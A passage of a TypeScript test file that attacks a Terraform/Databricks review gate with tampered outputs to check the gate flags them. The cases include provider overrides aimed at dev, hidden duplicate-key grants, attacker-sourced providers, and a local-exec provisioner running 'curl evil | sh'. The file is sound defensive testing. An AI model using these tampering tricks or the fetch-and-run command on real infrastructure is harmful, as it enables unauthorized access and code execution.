/**
 * The gate, tried as someone who wants Dev to write to prod (or prod to point at dev) without a
 * reviewer noticing, and as a careless engineer. Each attack is kept as a test that names the rule
 * and the address it must produce. Outputs are the real synthesized ones, changed by hand.
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { Grant, TerraformStack } from "../../lib/cdk";
import { buildApp } from "../../lib/app";
import { desiredState } from "../../lib/desired-state";
import { checkGate } from "../../lib/gate/check";
import { readOutputTree, readSynthOutput } from "../../lib/output/read";
import { ReviewInputError, type SynthesizedStack } from "../../lib/output/stack";
import type { EnvironmentModel } from "../../lib/model/types";
import { SynthCheckError, synthToDirectory } from "../../lib/synth";
import { ROOT, defaultModel, defaultModelData, isolatedModel, modelFrom, synthOutput } from "../helpers";
import { edited } from "../review/support";
import { loadEnvironmentModel } from "../../lib/model/load";

const model = defaultModel();
const full = loadEnvironmentModel(path.join(ROOT, "__tests__", "fixtures", "models", "full.yaml"));
const isolated = isolatedModel();
const outputs = new Map<EnvironmentModel, SynthesizedStack[]>([model, full, isolated].map((m) => [m, synthOutput(m)]));

const DEV_HOST = "https://dbc-a72d6af9-df3d.cloud.databricks.com";
const PROD_HOST = "https://dbc-028d9e53-7ce6.cloud.databricks.com";
const LEGACY = model.legacyServicePrincipals[0];

/** `stack address [rule]` of every violation, sorted. */
function found(stacks: readonly SynthesizedStack[], m: EnvironmentModel = model): string[] {
  return checkGate(stacks, desiredState(m))
    .violations.map((v) => `${v.stack} ${v.resource} [${v.rule}]`)
    .sort();
}

/** The violations after `edit` changes stack `name` of model `m`'s real output. */
function attack(name: string, edit: (json: any) => void, m: EnvironmentModel = model): string[] {
  return found(edited(outputs.get(m)!, name, edit), m);
}

/** The real output of the default model written to a directory, for attacks on files. */
function outputDir(m: EnvironmentModel = model): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "gate-attack-"));
  const manifest: any = { version: "0.21.0", stacks: {} };
  for (const s of outputs.get(m)!) {
    fs.mkdirSync(path.join(dir, "stacks", s.name), { recursive: true });
    fs.writeFileSync(path.join(dir, "stacks", s.name, "cdk.tf.json"), JSON.stringify(s.json, null, 2));
    manifest.stacks[s.name] = { name: s.name, synthesizedStackPath: `stacks/${s.name}/cdk.tf.json`, workingDirectory: `stacks/${s.name}` };
  }
  fs.writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest, null, 2));
  return dir;
}

const onDir = (dir: string, m: EnvironmentModel = model) =>
  checkGate(readOutputTree(dir), desiredState(m))
    .violations.map((v) => `${v.stack} ${v.resource} [${v.rule}]`)
    .sort();

describe("the gate passes what the model produces", () => {
  it.each([
    ["the default model", model],
    ["isolated catalogs", isolated],
    ["the full model (account stack, plan principal, adoption, S3 state)", full],
  ] as const)("passes %s", (_, m) => {
    expect(found(outputs.get(m)!, m)).toEqual([]);
  });

  it("fails a state path on disk that leads anywhere but the project's own file for the stack", () => {
    const dir = outputDir();
    const file = path.join(dir, "stacks", "ref-prod", "cdk.tf.json");
    const json = JSON.parse(fs.readFileSync(file, "utf8"));
    json.terraform.backend.local.path = "../../../../terraform.ref-prod.tfstate";
    fs.writeFileSync(file, JSON.stringify(json));
    expect(onDir(dir)).toEqual(["ref-prod terraform [state-guard]"]);
  });

  it("passes a real output directory, with terraform's own working data in it", () => {
    const dir = outputDir();
    fs.mkdirSync(path.join(dir, "stacks", "ref-prod", ".terraform"));
    fs.writeFileSync(path.join(dir, "stacks", "ref-prod", ".terraform.lock.hcl"), "# lock\n");
    expect(onDir(dir)).toEqual([]);
  });
});

describe("files terraform reads that the tools did not (unexpected-file)", () => {
  it.each([
    ["an override that re-aims prod's provider at dev", "ref-prod", "prod_override.tf.json", JSON.stringify({ provider: { databricks: { host: DEV_HOST } } })],
    ["an override that drops prevent_destroy", "ref-prod", "override.tf.json", JSON.stringify({ resource: { databricks_catalog: { prod: { lifecycle: { prevent_destroy: false } } } } })],
    ["an extra HCL file with a grant", "ref-prod", "extra.tf", 'resource "databricks_grant" "x" {\n  catalog = "prod"\n  principal = "Databricks - Dev"\n  privileges = ["MODIFY"]\n}\n'],
    ["variable values that re-aim the profile", "ref-prod", "terraform.tfvars", 'databricks_profile = "ref-dev"\n'],
    ["auto-loaded variable values", "ref-prod", "x.auto.tfvars.json", '{"databricks_profile":"ref-dev"}'],
    ["the cdktf CLI's generated config", "ref-prod", "generated_resources.tf", "# generated\n"],
    ["a hidden file", "ref-dev", ".sneaky.tf.json", "{}"],
  ])("fails %s", (_, stack, file, content) => {
    const dir = outputDir();
    fs.writeFileSync(path.join(dir, "stacks", stack, file), content);
    expect(onDir(dir)).toEqual([`${stack} stacks/${stack}/${file} [unexpected-file]`]);
  });

  it("fails working data that terraform init would not make here: another provider, version or a module", () => {
    const dir = outputDir();
    const stack = path.join(dir, "stacks", "ref-prod");
    fs.writeFileSync(path.join(stack, ".terraform.lock.hcl"), 'provider "registry.terraform.io/attacker/databricks" {\n  version = "1.0.0"\n}\n');
    fs.mkdirSync(path.join(stack, ".terraform", "providers", "registry.terraform.io", "attacker", "databricks"), { recursive: true });
    fs.mkdirSync(path.join(stack, ".terraform", "modules"), { recursive: true });
    expect(onDir(dir)).toEqual([
      "ref-prod stacks/ref-prod/.terraform.lock.hcl [unexpected-file]",
      "ref-prod stacks/ref-prod/.terraform/modules [unexpected-file]",
      "ref-prod stacks/ref-prod/.terraform/providers/registry.terraform.io/attacker [unexpected-file]",
    ]);
  });

  it("passes the working data terraform init makes: the pinned provider and its lock", () => {
    const dir = outputDir();
    const stack = path.join(dir, "stacks", "ref-prod");
    fs.writeFileSync(path.join(stack, ".terraform.lock.hcl"), '# This file is maintained automatically by "terraform init".\nprovider "registry.terraform.io/databricks/databricks" {\n  version     = "1.99.0"\n  constraints = "1.99.0"\n  hashes = [\n    "h1:abc=",\n  ]\n}\n');
    fs.mkdirSync(path.join(stack, ".terraform", "providers", "registry.terraform.io", "databricks", "databricks", "1.99.0", "linux_amd64"), { recursive: true });
    fs.writeFileSync(path.join(stack, ".terraform", "providers", "registry.terraform.io", "databricks", "databricks", "1.99.0", "linux_amd64", "terraform-provider-databricks_v1.99.0"), "binary");
    fs.writeFileSync(path.join(stack, ".terraform", "terraform.tfstate"), JSON.stringify(backendRecord(stack)));
    expect(onDir(dir)).toEqual([]);
  });

  /** What terraform 1.11.4's init writes as `.terraform/terraform.tfstate` for a stack's local backend (recorded from a real init). */
  const backendRecord = (stack: string, edit: (config: any) => void = () => {}) => {
    const config = { path: JSON.parse(fs.readFileSync(path.join(stack, "cdk.tf.json"), "utf8")).terraform.backend.local.path, workspace_dir: null };
    edit(config);
    return { version: 3, terraform_version: "1.11.4", backend: { type: "local", config, hash: 2798265489 } };
  };

  it.each([
    ["a record of another state path, with the configuration's hash (terraform 1.11.4 plans against that state)", (stack: string) => JSON.stringify(backendRecord(stack, (c) => (c.path = "../../../terraform.ref-dev.tfstate")))],
    ["a record with a workspace_dir the configuration does not set", (stack: string) => JSON.stringify(backendRecord(stack, (c) => (c.workspace_dir = "../ref-dev")))],
    ["a record of another backend type", (stack: string) => JSON.stringify({ ...backendRecord(stack), backend: { type: "s3", config: { bucket: "x", key: "ref-dev.tfstate", region: "us-east-1" }, hash: 1 } })],
    ["an empty record", () => "{}"],
    ["a record with a field terraform does not write", (stack: string) => JSON.stringify({ ...backendRecord(stack), remote: { type: "local" } })],
    ["a record that is not JSON", () => "backend local"],
  ])("fails %s in .terraform/terraform.tfstate", (_what, record) => {
    const dir = outputDir();
    const stack = path.join(dir, "stacks", "ref-prod");
    fs.mkdirSync(path.join(stack, ".terraform"));
    fs.writeFileSync(path.join(stack, ".terraform", "terraform.tfstate"), record(stack));
    expect(onDir(dir)).toEqual(["ref-prod stacks/ref-prod/.terraform/terraform.tfstate [unexpected-file]"]);
  });

  it("fails an S3 backend record naming dev's state key, and passes the one init writes for the stack (the full model)", () => {
    const dir = outputDir(full);
    const stack = path.join(dir, "stacks", "ref-prod");
    const s3 = JSON.parse(fs.readFileSync(path.join(stack, "cdk.tf.json"), "utf8")).terraform.backend.s3;
    fs.mkdirSync(path.join(stack, ".terraform"));
    // Terraform records every attribute of the backend's schema, null where the configuration sets none.
    const record = (config: object) => JSON.stringify({ version: 3, terraform_version: "1.11.4", backend: { type: "s3", config: { ...s3, access_key: null, assume_role: null, profile: null, ...config }, hash: 4123 } });
    fs.writeFileSync(path.join(stack, ".terraform", "terraform.tfstate"), record({ key: s3.key.replace("ref-prod", "ref-dev") }));
    expect(onDir(dir, full)).toEqual(["ref-prod stacks/ref-prod/.terraform/terraform.tfstate [unexpected-file]"]);
    fs.writeFileSync(path.join(stack, ".terraform", "terraform.tfstate"), record({}));
    expect(onDir(dir, full)).toEqual([]);
  });

  it("fails anything in the provider cache but the pinned provider's executable in a platform directory", () => {
    const dir = outputDir();
    const version = path.join(dir, "stacks", "ref-prod", ".terraform", "providers", "registry.terraform.io", "databricks", "databricks", "1.99.0");
    fs.mkdirSync(path.join(version, "linux_amd64"), { recursive: true });
    fs.writeFileSync(path.join(version, "linux_amd64", "terraform-provider-databricks_v1.99.0"), "binary");
    fs.writeFileSync(path.join(version, "linux_amd64", "helper.sh"), "#!/bin/sh\n");
    fs.writeFileSync(path.join(version, "notes.txt"), "x");
    expect(onDir(dir)).toEqual([
      "ref-prod stacks/ref-prod/.terraform/providers/registry.terraform.io/databricks/databricks/1.99.0/linux_amd64/helper.sh [unexpected-file]",
      "ref-prod stacks/ref-prod/.terraform/providers/registry.terraform.io/databricks/databricks/1.99.0/notes.txt [unexpected-file]",
    ]);
  });

  it("fails a stack directory the manifest does not list, and a stray file in the output root", () => {
    const dir = outputDir();
    fs.mkdirSync(path.join(dir, "stacks", "ref-shadow"));
    fs.writeFileSync(path.join(dir, "stacks", "ref-shadow", "cdk.tf.json"), "{}");
    fs.writeFileSync(path.join(dir, "notes.tf.json"), "{}");
    expect(onDir(dir)).toEqual(["(output) notes.tf.json [unexpected-file]", "ref-shadow stacks/ref-shadow [unexpected-file]"]);
  });

  it("fails a manifest that sends the tools to another file than terraform reads", () => {
    const dir = outputDir();
    const manifestFile = path.join(dir, "manifest.json");
    const manifest = JSON.parse(fs.readFileSync(manifestFile, "utf8"));
    fs.mkdirSync(path.join(dir, "stacks", "decoy"));
    fs.copyFileSync(path.join(dir, "stacks", "ref-prod", "cdk.tf.json"), path.join(dir, "stacks", "decoy", "cdk.tf.json"));
    manifest.stacks["ref-prod"].synthesizedStackPath = "stacks/decoy/cdk.tf.json";
    fs.writeFileSync(manifestFile, JSON.stringify(manifest));
    expect(onDir(dir)).toEqual(expect.arrayContaining(["ref-prod manifest.json [unexpected-file]", "decoy stacks/decoy [unexpected-file]"]));
  });

  it("fails cdk.tf.json as a symbolic link to a file elsewhere", () => {
    const dir = outputDir();
    const file = path.join(dir, "stacks", "ref-dev", "cdk.tf.json");
    const elsewhere = path.join(dir, "..", `${path.basename(dir)}-elsewhere.json`);
    fs.renameSync(file, elsewhere);
    fs.symlinkSync(elsewhere, file);
    expect(onDir(dir)).toEqual(["ref-dev stacks/ref-dev/cdk.tf.json [unexpected-file]"]);
  });

  it("rejects a manifest stack without its directory as bad input", () => {
    const dir = outputDir();
    fs.rmSync(path.join(dir, "stacks", "ref-staging"), { recursive: true });
    expect(() => readOutputTree(dir)).toThrow(ReviewInputError);
  });
});

describe("JSON that terraform and JSON.parse read differently (duplicate-key)", () => {
  it("fails a grant hidden in the first copy of a repeated key", () => {
    const dir = outputDir();
    const file = path.join(dir, "stacks", "ref-prod", "cdk.tf.json");
    const text = fs.readFileSync(file, "utf8");
    const hidden = `"resource": {"databricks_grant": {"catalog_prod__group_dev": {"catalog": "prod", "principal": "Databricks - Dev", "privileges": ["MODIFY"]}}},\n  "resource":`;
    fs.writeFileSync(file, text.replace('"resource":', hidden));
    expect(onDir(dir)).toEqual(["ref-prod stacks/ref-prod/cdk.tf.json [duplicate-key]"]);
    expect(checkGate(readOutputTree(dir), desiredState(model)).violations[0].problem).toContain("the key resource appears twice");
  });

  it("rejects it as bad input in the report and diff, which would otherwise show what JSON.parse kept", () => {
    const dir = outputDir();
    const file = path.join(dir, "stacks", "ref-prod", "cdk.tf.json");
    fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace('"resource":', '"resource": {},\n  "resource":'));
    expect(() => readSynthOutput(dir)).toThrow(/the key resource appears twice/);
  });

  it("fails a repeated grant name inside one type", () => {
    const dir = outputDir();
    const file = path.join(dir, "stacks", "ref-prod", "cdk.tf.json");
    const text = fs.readFileSync(file, "utf8");
    fs.writeFileSync(file, text.replace('"databricks_grant": {', '"databricks_grant": {"catalog_prod__group_prod_readonly": {"catalog": "prod", "principal": "Databricks - Dev", "privileges": ["MODIFY"]},'));
    const v = checkGate(readOutputTree(dir), desiredState(model)).violations;
    expect(v.map((x) => x.rule)).toEqual(["duplicate-key"]);
    expect(v[0].problem).toContain("resource.databricks_grant.catalog_prod__group_prod_readonly");
  });
});

describe("kinds the gate did not judge (unknown-construct and precise rules)", () => {
  it.each([
    ["a module block", (j: any) => (j.module = { x: { source: "./evil" } }), "ref-prod module [unknown-construct]"],
    ["a local-exec provisioner on terraform_data", (j: any) => (j.resource.terraform_data = { x: { provisioner: [{ "local-exec": { command: "curl evil | sh" } }] } }), "ref-prod terraform_data.x [unknown-construct]"],
    ["a null_resource", (j: any) => (j.resource.null_resource = { x: {} }), "ref-prod null_resource.x [unknown-construct]"],
    ["a provisioner on a grant", (j: any) => (j.resource.databricks_grant.catalog_prod__group_prod_readonly.provisioner = [{ "local-exec": { command: "env" } }]), "ref-prod databricks_grant.catalog_prod__group_prod_readonly [unknown-construct]"],
    ["count on a grant", (j: any) => (j.resource.databricks_grant.catalog_prod__group_prod_readonly.count = 2), "ref-prod databricks_grant.catalog_prod__group_prod_readonly [unknown-construct]"],
    ["depends_on", (j: any) => (j.resource.databricks_catalog.prod.depends_on = ["databricks_service_principal.prod"]), "ref-prod databricks_catalog.prod [unknown-construct]"],
    ["lifecycle.ignore_changes on the catalog (its owner)", (j: any) => (j.resource.databricks_catalog.prod.lifecycle.ignore_changes = ["owner"]), "ref-prod databricks_catalog.prod [differs-from-model]"],
    ["workspace admin through databricks_permission_assignment", (j: any) => (j.resource.databricks_permission_assignment = { dev: { principal_id: 1, permissions: ["ADMIN"] } }), "ref-prod databricks_permission_assignment.dev [unknown-construct]"],
    ["an account-level admin assignment", (j: any) => (j.resource.databricks_mws_permission_assignment = { dev: { workspace_id: 3, principal_id: 1, permissions: ["ADMIN"] } }), "ref-prod databricks_mws_permission_assignment.dev [unknown-construct]"],
    ["an access control rule set", (j: any) => (j.resource.databricks_access_control_rule_set = { x: { name: "accounts/x" } }), "ref-prod databricks_access_control_rule_set.x [unknown-construct]"],
    ["databricks_permissions", (j: any) => (j.resource.databricks_permissions = { x: { authorization: "tokens" } }), "ref-prod databricks_permissions.x [unknown-construct]"],
    ["databricks_sql_permissions", (j: any) => (j.resource.databricks_sql_permissions = { x: { catalog: true } }), "ref-prod databricks_sql_permissions.x [unknown-construct]"],
    ["entitlements", (j: any) => (j.resource.databricks_entitlements = { x: { group_id: "1", allow_cluster_create: true } }), "ref-prod databricks_entitlements.x [unknown-construct]"],
    ["allow_cluster_create on the deployer", (j: any) => (j.resource.databricks_service_principal.prod.allow_cluster_create = true), "ref-prod databricks_service_principal.prod [principal-declaration]"],
    ["a metastore assignment", (j: any) => (j.resource.databricks_metastore_assignment = { x: { metastore_id: "m", workspace_id: 1 } }), "ref-prod databricks_metastore_assignment.x [unknown-construct]"],
    ["a metastore owner change", (j: any) => (j.resource.databricks_metastore = { x: { name: "m", owner: "Databricks - Dev" } }), "ref-prod databricks_metastore.x [unknown-construct]"],
    ["the old catalog workspace binding type", (j: any) => (j.resource.databricks_catalog_workspace_binding = { x: { catalog_name: "prod", workspace_id: 1 } }), "ref-prod databricks_catalog_workspace_binding.x [catalog-isolation]"],
    ["a local in front of a value", (j: any) => (j.locals = { host: DEV_HOST }), "ref-prod locals [unknown-construct]"],
    ["a check block", (j: any) => (j.check = { x: {} }), "ref-prod check [unknown-construct]"],
    ["an unknown output", (j: any) => (j.output.leak = { value: "${databricks_service_principal.prod.id}" }), "ref-prod output.leak [unknown-construct]"],
  ])("fails %s", (_, edit, expected) => {
    expect(attack("ref-prod", edit)).toEqual([expected]);
  });

  it("fails a second provider local name aimed at dev, and a grant routed through it", () => {
    const got = attack("ref-prod", (j) => {
      j.provider.dbx = [{ host: DEV_HOST }];
      j.terraform.required_providers.dbx = { source: "databricks/databricks", version: "1.99.0" };
      j.resource.databricks_grant.catalog_prod__group_prod_readonly.provider = "dbx";
    });
    expect(got).toEqual([
      "ref-prod databricks_grant.catalog_prod__group_prod_readonly [provider-workspace]",
      "ref-prod provider.dbx [provider-workspace]",
      "ref-prod terraform [provider-workspace]",
    ].sort());
  });

  it("fails an aliased databricks provider aimed at another workspace", () => {
    // Twice: it exists at all, and its host is not the stack's.
    expect(attack("ref-staging", (j) => j.provider.databricks.push({ alias: "prod", host: PROD_HOST }))).toEqual(Array(2).fill("ref-staging provider.databricks.prod [provider-workspace]"));
  });

  it("fails keys every JS object inherits (constructor, toString, __proto__), which terraform takes as names", () => {
    // `constructor` as a provider local name: terraform starts that provider at plan, with the job's credentials.
    expect(attack("ref-prod", (j) => (j.terraform.required_providers.constructor = { source: "attacker/constructor", version: "1.0.0" }))).toEqual(["ref-prod terraform [provider-workspace]"]);
    expect(attack("ref-prod", (j) => (j.resource.databricks_grant.catalog_prod__group_prod_readonly.constructor = "x"))).toEqual(["ref-prod databricks_grant.catalog_prod__group_prod_readonly [unknown-construct]"]);
    expect(attack("ref-prod", (j) => (j.provider.constructor = [{ host: DEV_HOST }]))).toEqual(["ref-prod provider.constructor [provider-workspace]"]);
    expect(attack("ref-prod", (j) => (j.variable.toString = { default: "x" }))).toEqual(["ref-prod variable.toString [unknown-construct]"]);
    expect(attack("ref-prod", (j) => (j.resource.constructor = { x: { host: DEV_HOST } }))).toEqual(["ref-prod constructor.x [unknown-construct]"]);
  });

  it("fails another provider source or version", () => {
    expect(attack("ref-prod", (j) => (j.terraform.required_providers.databricks.source = "evil/databricks"))).toEqual(["ref-prod terraform [provider-workspace]"]);
    expect(attack("ref-prod", (j) => (j.terraform.required_providers.databricks.version = ">= 1.0"))).toEqual(["ref-prod terraform [provider-workspace]"]);
  });

  it("fails a stack the model does not have, and a stack the model has but the output lacks", () => {
    const out = outputs.get(model)!;
    const got = found([...out.filter((s) => s.name !== "ref-staging"), { name: "ref-stray", json: out[0].json }]);
    // The stray is a copy of ref-dev: its pairs are ref-dev's too.
    expect(got.filter((l) => !l.endsWith("[duplicate-pair]"))).toEqual(["ref-staging (stack) [missing-from-output]", "ref-stray (stack) [unknown-construct]"]);
    expect(got.filter((l) => l.startsWith("ref-stray") && l.endsWith("[duplicate-pair]"))).toHaveLength(4);
  });

  it("fails a deploying principal's federation policy that trusts pull-request tokens", () => {
    const got = attack("ref-account", (j) => (j.resource.databricks_service_principal_federation_policy.github__prod.oidc_policy.subject = "repo:refresh-os/uc-env-isolation:pull_request"), full);
    expect(got).toEqual(["ref-account databricks_service_principal_federation_policy.github__prod [federation-trust]"]);
    const audience = attack("ref-account", (j) => j.resource.databricks_service_principal_federation_policy.github__dev.oidc_policy.audiences.push("sts.amazonaws.com"), full);
    expect(audience).toEqual(["ref-account databricks_service_principal_federation_policy.github__dev [federation-trust]"]);
  });
});

describe("identity pinned (principal-declaration, retired-principal)", () => {
  it("fails the deployer's resource pinning its application_id, to the retired principal or to any other", () => {
    expect(attack("ref-prod", (j) => (j.resource.databricks_service_principal.prod.application_id = LEGACY.applicationId))).toEqual([
      "ref-prod databricks_service_principal.prod [retired-principal]",
    ]);
    expect(attack("ref-prod", (j) => (j.resource.databricks_service_principal.prod.application_id = "11111111-2222-4333-8444-555555555555"))).toEqual([
      "ref-prod databricks_service_principal.prod [principal-declaration]",
    ]);
  });

  it("fails the retired principal anywhere, in any case, even inside an expression or a comment", () => {
    expect(attack("ref-dev", (j) => (j.resource.databricks_grant.catalog_dev__sp_dev.principal = LEGACY.applicationId.toUpperCase()))).toEqual([
      "ref-dev databricks_grant.catalog_dev__sp_dev [retired-principal]",
    ]);
    expect(attack("ref-dev", (j) => (j.resource.databricks_grant.catalog_dev__sp_dev.principal = `\${lower("${LEGACY.applicationId.toUpperCase()}")}`))).toEqual([
      "ref-dev databricks_grant.catalog_dev__sp_dev [retired-principal]",
    ]);
    expect(attack("ref-dev", (j) => (j.resource.databricks_catalog.dev.comment = `owned by ${LEGACY.name.toUpperCase()}`))).toEqual(["ref-dev databricks_catalog.dev [retired-principal]"]);
  });

  it("fails a group lookup keyed like the model's but naming another group", () => {
    // And two grants then name one group: a pair declared twice.
    expect(attack("ref-staging", (j) => (j.data.databricks_group.dev.display_name = "Databricks - Account Admin"))).toEqual([
      "ref-staging data.databricks_group.dev [principal-declaration]",
      "ref-staging databricks_grant.catalog_staging__group_account_admin [duplicate-pair]",
      "ref-staging databricks_grant.catalog_staging__group_dev [duplicate-pair]",
    ]);
  });

  it("fails the account stack looking a deployer up by another identifier", () => {
    const got = attack("ref-account", (j) => {
      delete j.data.databricks_service_principal.prod.display_name;
      j.data.databricks_service_principal.prod.application_id = "11111111-2222-4333-8444-555555555555";
    }, full);
    expect(got).toEqual(["ref-account data.databricks_service_principal.prod [missing-from-output]", "ref-account data.databricks_service_principal.prod [principal-declaration]"]);
  });

  it("fails a grant's principal swapped for another model group", () => {
    expect(attack("ref-prod", (j) => (j.resource.databricks_grant.catalog_prod__group_prod_readonly.principal = "${data.databricks_group.account_admin.display_name}"))).toEqual([
      "ref-prod databricks_grant.catalog_prod__group_account_admin [duplicate-pair]",
      "ref-prod databricks_grant.catalog_prod__group_prod_readonly [duplicate-pair]",
      "ref-prod databricks_grant.catalog_prod__group_prod_readonly [principal-declaration]",
    ]);
  });
});

describe("the incident and its relatives: Dev writing to prod", () => {
  it("fails Dev's MODIFY on prod by a literal group name, without a lookup", () => {
    const got = attack("ref-prod", (j) => (j.resource.databricks_grant.catalog_prod__group_dev = { catalog: "prod", principal: "Databricks - Dev", privileges: ["MODIFY"] }));
    expect(got).toEqual(["ref-prod databricks_grant.catalog_prod__group_dev [write-outside-own-environment]"]);
  });

  it("fails Dev's MODIFY on prod written as PROD (Unity Catalog names ignore case), from the dev stack", () => {
    const got = attack("ref-dev", (j) => (j.resource.databricks_grant.catalog_prod__x = { catalog: "PROD", principal: "${data.databricks_group.dev.display_name}", privileges: ["MODIFY"] }));
    expect(got).toEqual(["ref-dev databricks_grant.catalog_prod__x [write-outside-own-environment]"]);
  });

  it("fails the padded catalog name as a write to prod itself, not only as a grant the model lacks", () => {
    expect(attack("ref-dev", (j) => (j.resource.databricks_grant.catalog_prod__x = { catalog: " prod ", principal: "Databricks - Dev", privileges: ["MODIFY"] }))).toEqual([
      "ref-dev databricks_grant.catalog_prod__x [write-outside-own-environment]",
    ]);
  });

  it.each([
    ["a privilege in lower case", (j: any) => j.resource.databricks_grant.catalog_prod__group_prod_readonly.privileges.push("modify"), "ref-prod", "catalog_prod__group_prod_readonly"],
    ["the catalog name padded with spaces", (j: any) => (j.resource.databricks_grant.catalog_prod__x = { catalog: " prod ", principal: "Databricks - Dev", privileges: ["MODIFY"] }), "ref-dev", "catalog_prod__x"],
    ["a table inside prod, from the dev stack", (j: any) => (j.resource.databricks_grant.table_prod__x = { table: "prod.gold.t", principal: "Databricks - Dev", privileges: ["MODIFY"] }), "ref-dev", "table_prod__x"],
    ["the Dev group's name in another case", (j: any) => (j.resource.databricks_grant.catalog_prod__x = { catalog: "prod", principal: "databricks - dev", privileges: ["ALL_PRIVILEGES"] }), "ref-prod", "catalog_prod__x"],
  ] as const)("fails Dev's write on prod through %s", (_, edit, stack, id) => {
    const got = attack(stack, edit);
    expect(got.length).toBeGreaterThan(0);
    expect(got.every((l) => l.startsWith(`${stack} databricks_grant.${id} [`))).toBe(true);
    expect(got.some((l) => /\[(write-outside-own-environment|exceeds-model)\]$/.test(l))).toBe(true);
  });

  it.each([
    ["a volume inside prod (WRITE_VOLUME)", "ref-prod", (j: any): unknown => (j.resource.databricks_grant.v = { volume: "prod.models.v", principal: "Databricks - Dev", privileges: ["WRITE_VOLUME"] }), "ref-prod databricks_grant.v [write-outside-own-environment]"],
    ["a registered model inside prod", "ref-prod", (j: any): unknown => (j.resource.databricks_grant.m = { model: "prod.models.m", principal: "Databricks - Dev", privileges: ["APPLY_TAG"] }), "ref-prod databricks_grant.m [write-outside-own-environment]"],
    ["prod's storage, past the catalog (WRITE_FILES on an external location)", "ref-prod", (j: any): unknown => (j.resource.databricks_grant.e = { external_location: "prod-landing", principal: "Databricks - Dev", privileges: ["WRITE_FILES"] }), "ref-prod databricks_grant.e [exceeds-model]"],
    ["a storage credential, to make its own location on prod's storage", "ref-dev", (j: any): unknown => (j.resource.databricks_grant.s = { storage_credential: "prod-cred", principal: "Databricks - Dev", privileges: ["CREATE_EXTERNAL_LOCATION"] }), "ref-dev databricks_grant.s [exceeds-model]"],
    ["its own name padded with a space", "ref-prod", (j: any): unknown => (j.resource.databricks_grant.y = { catalog: "prod", principal: "Databricks - Dev ", privileges: ["MODIFY"] }), "ref-prod databricks_grant.y [write-outside-own-environment]"],
    ["a schema of prod added to Dev's own catalog grant", "ref-dev", (j: any): unknown => (j.resource.databricks_grant.catalog_dev__group_dev.schema = "prod.models"), "ref-dev databricks_grant.catalog_dev__group_dev [unknown-construct]"],
    ["a dynamic block adding privileges", "ref-prod", (j: any): unknown => (j.resource.databricks_grant.catalog_prod__group_account_admin.dynamic = { privileges: { for_each: ["MODIFY"], content: {} } }), "ref-prod databricks_grant.catalog_prod__group_account_admin [unknown-construct]"],
  ] as const)("fails Dev's write on prod through %s", (_, stack, edit, expected) => {
    expect(attack(stack, edit)).toEqual([expected]);
  });

  it("fails MODIFY slipped into the read-only group's grant on prod", () => {
    expect(attack("ref-prod", (j) => j.resource.databricks_grant.catalog_prod__group_prod_readonly.privileges.push("MODIFY"))).toEqual([
      "ref-prod databricks_grant.catalog_prod__group_prod_readonly [write-outside-own-environment]",
    ]);
  });

  it("fails Dev written as a Terraform template that evaluates to the Dev group", () => {
    for (const principal of ['${"Databricks - Dev"}', "%{ if true }Databricks - Dev%{ endif }"]) {
      const got = attack("ref-prod", (j) => (j.resource.databricks_grant.catalog_prod__x = { catalog: "prod", principal, privileges: ["MODIFY"] }));
      expect(got).toHaveLength(1);
      expect(got[0]).toMatch(/^ref-prod databricks_grant.catalog_prod__x \[(unresolved-reference|exceeds-model|write-outside-own-environment)\]$/);
    }
  });

  it("fails prod's provider host written with a different case or a trailing slash", () => {
    expect(attack("ref-prod", (j) => (j.provider.databricks[0].host = `${PROD_HOST}/`))).toEqual(["ref-prod provider.databricks [provider-workspace]"]);
    expect(attack("ref-prod", (j) => (j.provider.databricks[0].host = PROD_HOST.toUpperCase()))).toEqual(["ref-prod provider.databricks [provider-workspace]"]);
  });

  it("fails the dev grant moved to another stack (a pair declared twice) and the same grant in array form", () => {
    const got = attack("ref-prod", (j) => {
      j.resource = [j.resource, { databricks_grant: { catalog_dev__group_dev: { catalog: "dev", principal: "Databricks - Dev", privileges: ["MODIFY"] } } }];
    });
    expect(got).toEqual(expect.arrayContaining(["ref-prod databricks_grant.catalog_dev__group_dev [write-outside-own-environment]", "ref-prod databricks_grant.catalog_dev__group_dev [duplicate-pair]"]));
  });
});

describe("one meaning per fact, both ways (missing-from-output, catalog-isolation)", () => {
  it("fails a grant the model requires that the output lacks", () => {
    expect(attack("ref-prod", (j) => delete j.resource.databricks_grant.catalog_prod__group_prod_readonly)).toEqual([
      "ref-prod databricks_grant.catalog_prod__group_prod_readonly [missing-from-output]",
    ]);
  });

  it("fails a privilege the model gives that the grant lacks", () => {
    expect(attack("ref-prod", (j) => (j.resource.databricks_grant.catalog_prod__group_prod_readonly.privileges = ["SELECT"]))).toEqual(
      Array(4).fill("ref-prod databricks_grant.catalog_prod__group_prod_readonly [missing-from-output]"),
    );
  });

  it("fails a hand-written isolation_mode = OPEN where the model leaves it unset (keep)", () => {
    expect(attack("ref-dev", (j) => (j.resource.databricks_catalog.dev.isolation_mode = "OPEN"))).toEqual(["ref-dev databricks_catalog.dev [unknown-construct]"]);
  });

  it("fails isolation and bindings other than the model's", () => {
    expect(attack("ref-dev", (j) => (j.resource.databricks_catalog.dev.isolation_mode = "OPEN"), isolated)).toEqual(["ref-dev databricks_catalog.dev [catalog-isolation]"]);
    expect(attack("ref-prod", (j) => delete j.resource.databricks_catalog.prod.isolation_mode, isolated)).toEqual(["ref-prod databricks_catalog.prod [catalog-isolation]"]);
    const binding = (j: any) => j.resource.databricks_workspace_binding.catalog_dev__workspace_staging;
    expect(attack("ref-dev", (j) => (binding(j).binding_type = "BINDING_TYPE_READ_WRITE"), isolated)).toEqual(["ref-dev databricks_workspace_binding.catalog_dev__workspace_staging [catalog-isolation]"]);
    expect(attack("ref-dev", (j) => (binding(j).workspace_id = 1111111111111111), isolated)).toEqual(["ref-dev databricks_workspace_binding.catalog_dev__workspace_staging [catalog-isolation]"]);
    expect(attack("ref-dev", (j) => delete j.resource.databricks_workspace_binding, isolated)).toEqual(["ref-dev databricks_workspace_binding.catalog_dev__workspace_staging [missing-from-output]"]);
  });

  it("fails a catalog without its owner, or owned by a group", () => {
    expect(attack("ref-prod", (j) => delete j.resource.databricks_catalog.prod.owner)).toEqual(["ref-prod databricks_catalog.prod [catalog-owner]"]);
    expect(attack("ref-prod", (j) => (j.resource.databricks_catalog.prod.owner = "Databricks - Dev"))).toEqual(["ref-prod databricks_catalog.prod [catalog-owner]"]);
